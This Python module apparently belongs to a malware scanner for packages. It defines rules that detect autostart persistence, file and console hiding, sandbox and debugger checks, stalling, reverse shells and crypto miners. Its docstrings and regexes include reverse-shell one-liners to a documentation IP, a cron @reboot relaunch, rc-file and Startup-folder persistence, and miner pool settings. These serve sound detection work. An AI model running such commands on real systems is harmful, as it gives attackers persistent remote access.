"""Persistence and evasion rules (DOU6xx): autostart entries, hiding, sandbox checks, stalling, reverse shells, miners."""

from __future__ import annotations

import ast
import re
import weakref
from collections.abc import Iterator

from douane.analysis.context import FileContext, PyContext
from douane.analysis.download import scope_nodes, scope_of
from douane.analysis.interface import FileType, Hit, Tag, all_of, anchored, gated
from douane.analysis.process import HOLE, command_of, is_exec_call, loose_str
from douane.analysis.pyapi import tail
from douane.analysis.registry import file_rule, node_rule
from douane.domain import Confidence, Family, Severity, Where

# -- paths built from pieces ----------------------------------------------------------------------

_JOINERS = frozenset({"os.path.join", "posixpath.join", "ntpath.join", "pathlib.Path",
                      "pathlib.PurePath", "pathlib.PosixPath", "pathlib.WindowsPath",
                      "pathlib.PureWindowsPath"})  # fmt: skip
_PASS_THROUGH = frozenset({"expanduser", "expandvars", "abspath", "realpath", "normpath", "str",
                           "fspath", "resolve", "absolute", "expand"})  # fmt: skip


def path_text(node: ast.AST | None, ctx: PyContext, depth: int = 0) -> str | None:
    """A path expression as normalised text (`/` separators, lower case), with unknown parts
    as ``…`` and `Path.home()`/`~` as ``~``: enough to tell where a write goes."""
    text = _path_text(node, ctx, depth)
    if text is None:
        return None
    return re.sub(r"/+", "/", text.replace("\\", "/")).lower()


def _path_text(node: ast.AST | None, ctx: PyContext, depth: int) -> str | None:
    if node is None or depth > 8:
        return None
    value = loose_str(node, ctx)
    if value is not None:
        return value
    d = depth + 1
    if isinstance(node, ast.Name):
        value_node = _assigned(node.id, node, ctx)
        return _path_text(value_node, ctx, d) if value_node is not None else None
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Div):
        return f"{_path_text(node.left, ctx, d) or HOLE}/{_path_text(node.right, ctx, d) or HOLE}"
    if isinstance(node, ast.Subscript) and "environ" in ast.unparse(node.value):
        key = ctx.const_str(node.slice)
        return f"%{key}%" if key else HOLE
    if not isinstance(node, ast.Call):
        return None
    name = ctx.call_name(node) or ""
    short = tail(name)
    if name in _JOINERS or short in ("join", "Path") and name.startswith(("os.path", "Path")):
        return "/".join(_path_text(a, ctx, d) or HOLE for a in node.args) or None
    if short == "joinpath" and isinstance(node.func, ast.Attribute):
        base = _path_text(node.func.value, ctx, d) or HOLE
        return "/".join([base, *(_path_text(a, ctx, d) or HOLE for a in node.args)])
    if short == "home" or name in ("os.path.expanduser",) and not node.args:
        return "~"
    if name in ("os.getenv", "os.environ.get") and node.args:
        key = ctx.const_str(node.args[0])
        return f"%{key}%" if key else HOLE
    if short in _PASS_THROUGH:
        inner = (
            node.args[0]
            if node.args
            else node.func.value
            if isinstance(node.func, ast.Attribute)
            else None
        )
        return _path_text(inner, ctx, d)
    return None


def _assigned(name: str, use: ast.AST, ctx: PyContext) -> ast.AST | None:
    """The last value assigned to ``name`` before ``use`` in the same function (or module)."""
    line = getattr(use, "lineno", 0)
    found = None
    for sub in scope_nodes(scope_of(ctx)):
        if isinstance(sub, ast.Assign) and sub.lineno < line and len(sub.targets) == 1:
            target = sub.targets[0]
            if isinstance(target, ast.Name) and target.id == name:
                found = sub.value
    return found


_WRITE_METHODS = frozenset({"write_text", "write_bytes"})
_COPIES = frozenset({"shutil.copy", "shutil.copy2", "shutil.copyfile", "shutil.move", "os.rename",
                     "os.replace", "shutil.copytree", "os.symlink", "os.link"})  # fmt: skip


def write_target(call: ast.Call, ctx: PyContext) -> str | None:
    """The path a call writes to (open for writing/appending, `write_text`, copy or move)."""
    name = ctx.call_name(call) or ""
    short = call.func.attr if isinstance(call.func, ast.Attribute) else tail(name)
    if name in ("open", "io.open", "codecs.open", "builtins.open") or (
        short == "open" and isinstance(call.func, ast.Attribute) and name not in ("os.open",)
    ):
        is_method = name not in ("open", "io.open", "codecs.open", "builtins.open")
        args = call.args if not is_method else [call.func.value, *call.args]  # type: ignore[union-attr]
        mode_node = (
            args[1]
            if len(args) > 1
            else next((k.value for k in call.keywords if k.arg == "mode"), None)
        )
        mode = ctx.const_str(mode_node) if mode_node is not None else "r"
        if mode is None or not any(c in mode for c in "wax"):
            return None
        return path_text(args[0], ctx) if args else None
    if short in _WRITE_METHODS and isinstance(call.func, ast.Attribute):
        return path_text(call.func.value, ctx)
    if name in _COPIES and len(call.args) > 1:
        return path_text(call.args[1], ctx)
    return None


def _lower_in_function(ctx: PyContext) -> Severity | None:
    """LOW for what benign tools do on the user's request (completion installers append to
    `~/.bashrc`, setuptools hides `.egg-info`), when it only runs inside a function."""
    return Severity.LOW if ctx.where is Where.FUNCTION else None


_FLAGGED: weakref.WeakKeyDictionary[ast.AST, set[tuple[str, int]]] = weakref.WeakKeyDictionary()


def _first_on_line(ctx: PyContext, rule: str, node: ast.AST) -> bool:
    """One hit per rule and line, when a rule looks at both a call and the constants in it."""
    seen = _FLAGGED.setdefault(ctx.tree, set())
    key = (rule, getattr(node, "lineno", 0))
    if key in seen:
        return False
    seen.add(key)
    return True


def _str_constant(node: ast.AST) -> str | None:
    if (
        isinstance(node, ast.Constant)
        and isinstance(node.value, str | bytes)
        and len(node.value) < 20000
    ):
        v = node.value
        return v if isinstance(v, str) else v.decode("latin-1")
    return None


# -- Windows autostart ----------------------------------------------------------------------------

_STARTUP = re.compile(
    r"start menu/programs/startup|shell:(?:common )?startup|programdata/microsoft/windows/start menu/programs/startup"
)


@node_rule(
    "DOU601",
    "windows_startup_folder",
    family=Family.PERSISTENCE,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    nodes=(ast.Call, ast.Constant),
    triggers=(b"Startup", b"startup", b"STARTUP"),
    tags=(Tag.PERSIST,),
)
def windows_startup_folder(node: ast.AST, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags a write or copy into the Windows Startup folder
    (`...\\Start Menu\\Programs\\Startup`, `shell:startup`), HIGH, and any other use of that
    path, MEDIUM.

    Why it matters: a file in the Startup folder runs at every logon; stealers copy
    themselves there to survive reboots. Libraries have no business writing there.

    Example: `shutil.copy(me, os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows",
    "Start Menu", "Programs", "Startup", "svc.pyw"))`.
    """
    if isinstance(node, ast.Call):
        target = write_target(node, ctx)
        if target and _STARTUP.search(target) and _first_on_line(ctx, "DOU601", node):
            yield ctx.hit(node, f"`{ctx.call_name(node)}` writes into the Windows Startup folder",
                          severity=Severity.HIGH)  # fmt: skip
        return
    value = _str_constant(node)
    if (
        value
        and _STARTUP.search(value.replace("\\", "/").lower())
        and _first_on_line(ctx, "DOU601", node)
    ):
        yield ctx.hit(node, "code names the Windows Startup folder (runs files at every logon)")


_RUN_KEY = re.compile(
    r"currentversion\\+(?:run|runonce|runservices|runservicesonce|policies\\+explorer\\+run)\b"
    r"|winlogon\\*(?:\\+(?:shell|userinit))?$|image file execution options",
    re.IGNORECASE,
)


@node_rule(
    "DOU602",
    "registry_run_key",
    family=Family.PERSISTENCE,
    severity=Severity.MEDIUM,
    confidence=Confidence.HIGH,
    nodes=(ast.Constant,),
    triggers=(
        b"CurrentVersion",
        b"currentversion",
        b"CURRENTVERSION",
        b"Winlogon",
        b"Image File Execution",
    ),
    tags=(Tag.PERSIST,),
)
def registry_run_key(node: ast.Constant, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags Windows autostart registry keys in code (`...\\CurrentVersion\\Run`,
    `RunOnce`, `Winlogon` `Shell`/`Userinit`, `Image File Execution Options`); HIGH when the
    file also writes registry values (`SetValueEx`, `reg add`, `New-ItemProperty`).

    Why it matters: a value under a Run key starts a program at every logon, the classic
    persistence of Windows malware. Desktop apps offer "start with Windows" too, but a
    library writing a Run key from its package is very unusual.

    Example: `winreg.SetValueEx(winreg.OpenKey(HKCU, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, KEY_SET_VALUE), "svc", 0, REG_SZ, exe)`.
    """
    value = _str_constant(node)
    if not value or not _RUN_KEY.search(value):
        return
    data = ctx.file.member.data
    writes = any(
        t in data
        for t in (b"SetValueEx", b"reg add", b"REG ADD", b"New-ItemProperty", b"Set-ItemProperty")
    )
    if _first_on_line(ctx, "DOU602", node):
        yield ctx.hit(
            node,
            "code names a Windows autostart registry key"
            + (" and writes registry values" if writes else ""),
            severity=Severity.HIGH if writes else None,
        )


# -- Unix and scheduled autostart -------------------------------------------------------------------

_SCHEDULE_CMD = re.compile(
    r"\bschtasks(?:\.exe)?\b.*?/create\b|\bcrontab\b\s*(?:-\s*$|-\s|[^-\s]|-l\b.*\|)|@reboot\b"
    r"|\bregister-scheduledtask\b|\bat\s+\d{1,2}:\d{2}\b",
    re.IGNORECASE,
)
_CRON_PATH = re.compile(r"^/etc/cron|/var/spool/cron|^/etc/anacrontab")


@node_rule(
    "DOU603",
    "scheduled_task_creation",
    family=Family.PERSISTENCE,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    nodes=(ast.Call, ast.Constant),
    triggers=(
        b"schtasks",
        b"SCHTASKS",
        b"crontab",
        b"@reboot",
        b"/etc/cron",
        b"spool/cron",
        b"ScheduledTask",
    ),  # fmt: skip
    tags=(Tag.PERSIST,),
)
def scheduled_task_creation(node: ast.AST, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags creation of scheduled jobs: a command running `schtasks /create`,
    `crontab`, `Register-ScheduledTask` or `at`; a write under `/etc/cron*` or
    `/var/spool/cron`; or an `@reboot` cron line anywhere in the code.

    Why it matters: a scheduled job re-launches the payload on a timer or at boot, long after
    the package was installed. Cron-managing tools exist, which is why this is MEDIUM and
    weighed by where it runs.

    Example: `os.system('(crontab -l; echo "@reboot /tmp/.x") | crontab -')`.
    """
    if isinstance(node, ast.Call):
        name = ctx.call_name(node)
        if is_exec_call(name):
            cmd = command_of(node, ctx) or ""
            if _SCHEDULE_CMD.search(cmd) and _first_on_line(ctx, "DOU603", node):
                yield ctx.hit(node, f"`{name}` creates a scheduled task or cron job")
            return
        target = write_target(node, ctx)
        if target and _CRON_PATH.search(target) and _first_on_line(ctx, "DOU603", node):
            yield ctx.hit(node, f"`{name}` writes a cron table")
        return
    value = _str_constant(node)
    if (
        value
        and re.search(r"(?:^|\n)\s*@reboot\s+\S", value)
        and _first_on_line(ctx, "DOU603", node)
    ):
        yield ctx.hit(node, "code holds an `@reboot` cron line (runs at every boot)")


_SERVICE_PATH = re.compile(
    r"^/etc/systemd/|\.config/systemd/user|/library/launch(?:agents|daemons)|^/etc/init\.d/"
    r"|^/etc/rc\.local|\.config/autostart/|^/etc/xdg/autostart|^/etc/profile\.d/"
)
_SERVICE_CMD = re.compile(
    r"\bsystemctl\b.*\benable\b|\blaunchctl\b\s+(?:load|bootstrap|submit)\b|\bupdate-rc\.d\b.*\b(?:defaults|enable)\b",
    re.I,
)


@node_rule(
    "DOU604",
    "service_or_launch_agent_install",
    family=Family.PERSISTENCE,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    nodes=(ast.Call,),
    triggers=(
        b"systemd",
        b"Launch",
        b"launchctl",
        b"systemctl",
        b"init.d",
        b"rc.local",
        b"autostart",
        b"profile.d",
        b"update-rc",
    ),  # fmt: skip
    tags=(Tag.PERSIST,),
)
def service_or_launch_agent_install(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags writes of systemd units, launchd agents/daemons, init scripts,
    XDG autostart entries or `/etc/profile.d` scripts, and commands `systemctl enable`,
    `launchctl load`, `update-rc.d ... defaults`.

    Why it matters: these start a program at boot or login on Linux and macOS. Server tools
    install their own service files on request, inside a function: LOW there; a package
    doing it during install or import is persisting something (MEDIUM).

    Example: `open(os.path.expanduser("~/Library/LaunchAgents/com.update.plist"), "w")`.
    """
    name = ctx.call_name(node)
    if is_exec_call(name):
        cmd = command_of(node, ctx) or ""
        if _SERVICE_CMD.search(cmd):
            yield ctx.hit(
                node,
                f"`{name}` enables a service or launch agent",
                severity=_lower_in_function(ctx),
            )
        return
    target = write_target(node, ctx)
    if target and _SERVICE_PATH.search(target):
        what = name or getattr(node.func, "attr", "write")
        yield ctx.hit(node, f"`{what}` writes a boot/login autostart file (`{target[:60]}`)",
                      severity=_lower_in_function(ctx))  # fmt: skip


_RC_FILE = re.compile(
    r"(?:^|/)\.(?:bashrc|zshrc|bash_profile|bash_login|profile|zprofile|zshenv|zlogin|cshrc|tcshrc)$|/\.config/fish/config\.fish$"
)
_RC_CMD = re.compile(
    r">>\s*['\"]?(?:~|\$home|\$\{home\})?/?\S*\.(?:bashrc|zshrc|bash_profile|profile|zprofile)\b",
    re.I,
)


@node_rule(
    "DOU605",
    "shell_rc_file_write",
    family=Family.PERSISTENCE,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    nodes=(ast.Call,),
    triggers=(
        b"bashrc",
        b"zshrc",
        b".profile",
        b"bash_profile",
        b"zprofile",
        b"zshenv",
        b"zlogin",
        b"config.fish",
        b"cshrc",
        b"bash_login",
    ),  # fmt: skip
    tags=(Tag.PERSIST,),
)
def shell_rc_file_write(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags writes or appends to shell start-up files (`~/.bashrc`,
    `~/.zshrc`, `~/.profile`, `~/.bash_profile`, fish `config.fish`), by `open(..., "a")`,
    `write_text` or a `>> ~/.bashrc` shell command.

    Why it matters: a line in an rc file runs in every new shell: malware adds aliases
    (`alias sudo=...`), `PATH` hijacks or its own relaunch there. Installers that add
    completions or a `PATH` entry do the same on request, inside a function: LOW there,
    MEDIUM at install or import time.

    Example: `open(os.path.expanduser("~/.bashrc"), "a").write("(/tmp/.x &)\\n")`.
    """
    name = ctx.call_name(node)
    if is_exec_call(name):
        if _RC_CMD.search(command_of(node, ctx) or ""):
            yield ctx.hit(
                node, f"`{name}` appends to a shell start-up file", severity=_lower_in_function(ctx)
            )
        return
    target = write_target(node, ctx)
    if target and _RC_FILE.search(target):
        yield ctx.hit(node, f"`{name}` writes a shell start-up file (`{target[-40:]}`)",
                      severity=_lower_in_function(ctx))  # fmt: skip


# -- hiding ----------------------------------------------------------------------------------------

_ATTRIB_HIDE = re.compile(r"\battrib(?:\.exe)?\b.*\+h\b", re.I)


@node_rule(
    "DOU606",
    "hidden_file_or_console",
    family=Family.PERSISTENCE,
    severity=Severity.MEDIUM,
    confidence=Confidence.HIGH,
    nodes=(ast.Call,),
    triggers=(anchored(rb"\battrib\b", b"attrib"), b"SetFileAttributes", b"ShowWindow"),
    tags=(Tag.EVADE,),
)
def hidden_file_or_console(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags hiding a file (`attrib +h`, `SetFileAttributesW(path, 2)` or
    `FILE_ATTRIBUTE_HIDDEN`) and hiding the console window
    (`ShowWindow(GetConsoleWindow(), 0)` / `SW_HIDE`).

    Why it matters: droppers hide the file they planted and the console they run in so the
    user does not notice. Debuggers, windowed apps and setuptools (for `.egg-info` on
    Windows) do it inside functions: LOW there, MEDIUM at install or import time.

    Example: `ctypes.windll.user32.ShowWindow(ctypes.windll.kernel32.GetConsoleWindow(), 0)`.
    """
    name = ctx.call_name(node) or ""
    short = tail(name)
    if is_exec_call(name):
        if _ATTRIB_HIDE.search(command_of(node, ctx) or ""):
            yield ctx.hit(
                node, f"`{name}` hides a file with `attrib +h`", severity=_lower_in_function(ctx)
            )
        return
    if short.startswith("SetFileAttributes") and len(node.args) > 1:
        flag = node.args[1]
        text = ast.unparse(flag)
        hidden = "HIDDEN" in text or (
            isinstance(flag, ast.Constant) and isinstance(flag.value, int) and flag.value & 2
        )
        if hidden:
            yield ctx.hit(
                node, "`SetFileAttributes` marks a file hidden", severity=_lower_in_function(ctx)
            )
        return
    if short == "ShowWindow" and len(node.args) > 1:
        flag = node.args[1]
        zero = isinstance(flag, ast.Constant) and flag.value == 0
        if zero or "SW_HIDE" in ast.unparse(flag):
            yield ctx.hit(
                node, "`ShowWindow` hides a window (SW_HIDE)", severity=_lower_in_function(ctx)
            )


# -- sandbox, VM and debugger checks ---------------------------------------------------------------

_ANALYSIS_ARTIFACTS = frozenset({
    # VM guest services and drivers
    "vboxservice.exe", "vboxtray.exe", "vmtoolsd.exe", "vmwaretray.exe", "vmwareuser.exe",
    "vmsrvc.exe", "vmusrvc.exe", "vmacthlp.exe", "qemu-ga.exe", "xenservice.exe", "prl_cc.exe",
    "prl_tools.exe", "vboxmouse.sys", "vboxguest.sys", "vmmouse.sys", "vmhgfs.sys", "sbiedll.dll",
    "vmcheck.dll", "vboxhook.dll", "cuckoomon.dll", "dbghelp.dll",
    # analysis and debugging tools (with or without .exe)
    "wireshark", "fiddler", "procmon", "procmon64", "procexp", "procexp64", "ollydbg", "x64dbg",
    "x32dbg", "ida64", "idaq", "idaq64", "processhacker", "httpdebuggerui", "httpdebugger",
    "dnspy", "pestudio", "tcpview", "autoruns", "autorunsc", "regmon", "filemon",
    "immunitydebugger", "windbg", "joeboxcontrol", "joeboxserver", "ksdumper",
    "ksdumperclient", "dumpcap", "importrec", "lordpe", "sysinternals", "de4dot",
    "vboxservice", "vboxtray", "vmtoolsd", "vmwaretray", "vmwareuser", "vmsrvc", "vmusrvc",
    "qemu-ga", "xenservice", "prl_cc", "prl_tools", "df5serv", "sandman",
    # analysis sandbox accounts
    "wdagutilityaccount",
})  # fmt: skip
_DEBUGGER_APIS = frozenset({"IsDebuggerPresent", "CheckRemoteDebuggerPresent"})


@node_rule(
    "DOU607",
    "sandbox_or_debugger_check",
    family=Family.PERSISTENCE,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    nodes=(ast.List, ast.Tuple, ast.Set, ast.Call),
    triggers=(
        b"vbox",
        b"VBox",
        b"VBOX",
        b"vmtoolsd",
        b"wireshark",
        b"Wireshark",
        b"ollydbg",
        b"x64dbg",
        b"procmon",
        b"ProcessHacker",
        b"processhacker",
        b"WDAGUtility",
        b"IsDebuggerPresent",
        b"CheckRemoteDebuggerPresent",
        b"fiddler",
        b"Fiddler",
        b"sbiedll",
        b"SbieDll",
    ),  # fmt: skip
    tags=(Tag.EVADE,),
)
def sandbox_or_debugger_check(node: ast.AST, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags lists of virtual-machine guest services, analysis tools and
    sandbox accounts (three or more of `vboxservice.exe`, `vmtoolsd.exe`, `wireshark`,
    `x64dbg`, `procmon`, `WDAGUtilityAccount`, ...; HIGH from six), and calls to
    `IsDebuggerPresent`/`CheckRemoteDebuggerPresent`.

    Why it matters: malware looks for these to stay dormant inside analysis sandboxes or to
    kill the tools watching it (a debugger API call inside a function, as debuggers make
    themselves, is LOW). Naming hypervisor vendors (`vmware`, `qemu`) as virtualization
    detection does is not enough: the rule wants guest-tool processes or analysis tools.

    Example: `if any(p.name().lower() in ["wireshark.exe", "vboxservice.exe", "x64dbg.exe"] for p in psutil.process_iter())`.
    """
    if isinstance(node, ast.Call):
        short = tail(ctx.call_name(node))
        if short in _DEBUGGER_APIS:
            yield ctx.hit(node, f"`{short}` checks whether a debugger is attached",
                          severity=_lower_in_function(ctx))  # fmt: skip
        return
    found = set()
    for elt in node.elts:  # type: ignore[attr-defined]
        value = _str_constant(elt)
        if value is None:
            continue
        key = value.strip().lower()
        if key in _ANALYSIS_ARTIFACTS or key.removesuffix(".exe") in _ANALYSIS_ARTIFACTS:
            found.add(key.removesuffix(".exe"))
    if len(found) >= 3:
        shown = ", ".join(sorted(found)[:4])
        yield ctx.hit(node, f"list of {len(found)} sandbox/VM/analysis-tool names ({shown}, ...)",
                      severity=Severity.HIGH if len(found) >= 6 else None)  # fmt: skip


_PAYLOAD_TOKENS = (
    b".system",
    b"system(",
    b"Popen",
    b"subprocess",
    b"exec",
    b"urlopen",
    b"requests",
    b"socket",
    b"startfile",
)


def _sleep_may_matter(file: FileContext) -> bool:
    """A file that runs at install or import time (not a test) and names a payload."""
    return file.where in (Where.INSTALL, Where.IMPORT) and any(
        t in file.member.data for t in _PAYLOAD_TOKENS
    )


@node_rule(
    "DOU608",
    "long_sleep_before_payload",
    family=Family.PERSISTENCE,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    nodes=(ast.Call,),
    triggers=(all_of((b"sleep",), {b"sleep"}),),  # `sleep` as a name, not in prose
    tags=(Tag.EVADE,),
)
@gated(_sleep_may_matter)
def long_sleep_before_payload(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags `time.sleep` of 60 seconds or more that runs during install or at
    import time, in a file that also runs processes, executes code or uses the network.

    Why it matters: sandboxes watch a package for a short time; stalling before the payload
    outlasts them. No install step or import has a reason to wait a minute.

    Example: `time.sleep(600)` at the top of `setup.py`, before `os.system(...)`.
    """
    if ctx.where not in (Where.INSTALL, Where.IMPORT) or tail(ctx.call_name(node)) != "sleep":
        return
    if not node.args or not isinstance(node.args[0], ast.Constant):
        return
    seconds = node.args[0].value
    if not isinstance(seconds, int | float) or seconds < 60:
        return
    if any(t in ctx.file.member.data for t in _PAYLOAD_TOKENS):
        yield ctx.hit(
            node, f"sleeps {seconds:g} s during {ctx.where} in a file that runs a payload"
        )


# -- reverse shells ----------------------------------------------------------------------------------

REVERSE_SHELL = re.compile(
    r"/dev/(?:tcp|udp)/[^\s/'\"]+/\d+|\b(?:nc|ncat|netcat)(?:\.exe)?\b[^|;\n]*\s-(?:e|c)\s*\S*(?:sh|cmd|powershell)"
    r"|\bmkfifo\b[^\n]{0,120}\b(?:nc|ncat|netcat)\b|\bsocat\b[^\n]{0,200}\bexec:|\bbash\s+-i\s*>&"
    r"|\bsh\s+-i\s*[<>]&|0<&\d+;?\s*exec\s+\d+<>",
    re.IGNORECASE,
)
_REVERSE_SHELL_TOKENS = (b"dup2", b"/dev/tcp", b"/dev/udp", b"mkfifo", b"socat", b"-i >&", b"-i>&",
                         anchored(rb"\bncat\b", b"ncat"), b"netcat", b" -e /bin", b" -e sh", b" -e cmd", b" -e powershell",
                         b" -c /bin", b"exec 5<>", b"exec 196<>")  # fmt: skip
_SHELLS = re.compile(r"(?:^|/|\s)(?:ba|z|da|k)?sh\b|cmd(?:\.exe)?\b|powershell", re.I)


def _reverse_shell_scope(node: ast.Call, ctx: PyContext) -> bool:
    """The function around a `dup2(sock.fileno(), …)` also connects a socket and starts a shell."""
    sock = spawn = False
    for sub in scope_nodes(scope_of(ctx)):
        if not isinstance(sub, ast.Call):
            continue
        name = ctx.call_name(sub) or ""
        if tail(name) in ("connect", "create_connection") or name == "socket.socket":
            sock = True
        elif name == "pty.spawn" or (
            is_exec_call(name) and _SHELLS.search(command_of(sub, ctx) or "")
        ):
            spawn = True
    return sock and spawn


@node_rule(
    "DOU609",
    "reverse_shell",
    family=Family.PERSISTENCE,
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    nodes=(ast.Call, ast.Constant),
    triggers=_REVERSE_SHELL_TOKENS + (b"fileno()",),
    tags=(Tag.EXECUTE, Tag.NETWORK_SEND),
)
def reverse_shell(node: ast.AST, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags reverse shells: `os.dup2(sock.fileno(), 0..2)` next to a socket
    connection and a shell, a process whose stdin/stdout is a socket running a shell, or a
    command running a one-liner (`bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh`, `mkfifo`+`nc`,
    `socat exec:`). The one-liner as a mere string constant is MEDIUM (cheat-sheet text).

    Why it matters: a reverse shell gives a remote operator an interactive shell on the
    machine that installed the package. It has no benign use in a published library.

    Example: `s.connect(("192.0.2.5", 4444)); [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; pty.spawn("/bin/sh")`.
    """
    if isinstance(node, ast.Constant):
        value = _str_constant(node)
        if value and REVERSE_SHELL.search(value) and _first_on_line(ctx, "DOU609", node):
            yield ctx.hit(node, "string holds a reverse-shell one-liner", severity=Severity.MEDIUM,
                          confidence=Confidence.MEDIUM)  # fmt: skip
        return
    call: ast.Call = node  # type: ignore[assignment]
    name = ctx.call_name(call) or ""
    if name == "os.dup2" and call.args and "fileno" in ast.unparse(call.args[0]):
        scope = scope_of(ctx)
        if _reverse_shell_scope(call, ctx) and _first_on_line(ctx, "DOU609-scope", scope):
            yield ctx.hit(
                call, "socket duplicated onto stdin/stdout next to a shell: reverse shell"
            )
        return
    if not is_exec_call(name):
        return
    cmd = command_of(call, ctx) or ""
    if REVERSE_SHELL.search(cmd) and _first_on_line(ctx, "DOU609", call):
        yield ctx.hit(call, f"`{name}` runs a reverse-shell command")
        return
    streams = [
        k
        for k in call.keywords
        if k.arg in ("stdin", "stdout") and "fileno" in ast.unparse(k.value)
    ]
    if streams and _SHELLS.search(cmd) and _first_on_line(ctx, "DOU609", call):
        yield ctx.hit(call, f"`{name}` runs a shell wired to a socket: reverse shell")


@file_rule(
    "DOU610",
    "reverse_shell_in_script",
    family=Family.PERSISTENCE,
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    file_types=(FileType.SHELL, FileType.WINDOWS_SCRIPT, FileType.PYTHON, FileType.PTH),
    only_unparsed=True,
    triggers=_REVERSE_SHELL_TOKENS,
    tags=(Tag.EXECUTE, Tag.NETWORK_SEND),
)
def reverse_shell_in_script(ctx: FileContext) -> Iterator[Hit]:
    """What it does: flags reverse-shell one-liners (`bash -i >& /dev/tcp/...`, `nc -e`,
    `mkfifo` + `nc`, `socat exec:`) and the Python `dup2(s.fileno())` + shell shape in shell,
    batch and `.pth` files and in Python files that do not parse.

    Why it matters: a shipped script or broken-on-purpose Python file holding a reverse shell
    gives a remote operator a shell as soon as it runs.

    Example: `bash -i >& /dev/tcp/192.0.2.5/4444 0>&1` in `scripts/post.sh`.
    """
    for m in REVERSE_SHELL.finditer(ctx.text):
        line = ctx.line_text(ctx.line_of(m.start())).lstrip()
        if not line.startswith(("#", "REM ", "::")):
            yield ctx.hit_at(m.start(), "script holds a reverse-shell one-liner")
    if ctx.file_type in (FileType.PYTHON, FileType.PTH):
        m = re.search(r"dup2\s*\(\s*\w+\.fileno\(\)", ctx.text)
        if m and re.search(r"/bin/(?:ba)?sh|pty\.spawn", ctx.text) and "connect" in ctx.text:
            yield ctx.hit_at(
                m.start(), "socket duplicated onto stdin/stdout next to a shell: reverse shell"
            )


# -- crypto miners -----------------------------------------------------------------------------------

MINER = re.compile(
    r"stratum\+(?:tcp|ssl|tls)://|--donate-level\b|\bxmrig\b|\bcryptonight\b|\bnicehash\b|\bminexmr\b|\bnanopool\.org\b|\bsupportxmr\b|\bmonerohash\b|\bethermine\b",
    re.I,
)
_MINER_STRONG = re.compile(r"stratum\+(?:tcp|ssl|tls)://|--donate-level\b", re.I)


@node_rule(
    "DOU611",
    "crypto_miner",
    family=Family.PERSISTENCE,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    nodes=(ast.Constant,),
    triggers=(
        b"stratum+",
        b"donate-level",
        b"xmrig",
        b"XMRig",
        b"XMRIG",
        b"cryptonight",
        b"nicehash",
        b"minexmr",
        b"nanopool",
        b"supportxmr",
        b"monerohash",
        b"ethermine",
    ),  # fmt: skip
    tags=(Tag.EXECUTE,),
)
def crypto_miner(node: ast.Constant, ctx: PyContext) -> Iterator[Hit]:
    """What it does: flags strings of cryptocurrency miners in code: pool URLs
    (`stratum+tcp://`), miner options (`--donate-level`), miner and pool names (`xmrig`,
    `cryptonight`, `nicehash`, `supportxmr`, ...). Pool URLs and miner options are HIGH with
    high confidence; names alone are MEDIUM (security tools list them as patterns).

    Why it matters: cryptojacking packages download and start a miner on the installing
    machine, burning its CPU for someone else's wallet.

    Example: `subprocess.Popen([miner, "-o", "stratum+tcp://pool.example.invalid:3333", "--donate-level", "1"])`.
    """
    value = _str_constant(node)
    if value and MINER.search(value) and _first_on_line(ctx, "DOU611", node):
        strong = bool(_MINER_STRONG.search(value))
        what = "pool URL or option" if strong else "or pool name"
        yield ctx.hit(node, f"code holds a crypto-miner {what}",
                      severity=None if strong else Severity.MEDIUM,
                      confidence=Confidence.HIGH if strong else None)  # fmt: skip


@file_rule(
    "DOU612",
    "crypto_miner_file",
    family=Family.PERSISTENCE,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    file_types=(
        FileType.SHELL,
        FileType.WINDOWS_SCRIPT,
        FileType.TEXT,
        FileType.OTHER,
        FileType.CONFIG,
    ),
    triggers=(b"stratum+tcp", b"stratum+ssl", b"stratum+tls", b"donate-level"),
    tags=(Tag.EXECUTE,),
)
def crypto_miner_file(ctx: FileContext) -> Iterator[Hit]:
    """What it does: flags non-Python files (scripts, miner configs such as `config.json`,
    bundled binaries) that hold a mining-pool URL (`stratum+tcp://`) or the miner option
    `--donate-level`.

    Why it matters: a miner ships as a binary plus a config naming the pool and wallet;
    neither belongs in a Python package.

    Example: `config.json` with `"url": "stratum+tcp://pool.example.invalid:3333"`.
    """
    m = _MINER_STRONG.search(ctx.text)
    if m:
        yield ctx.hit_at(m.start(), "file holds a mining-pool URL or miner option")
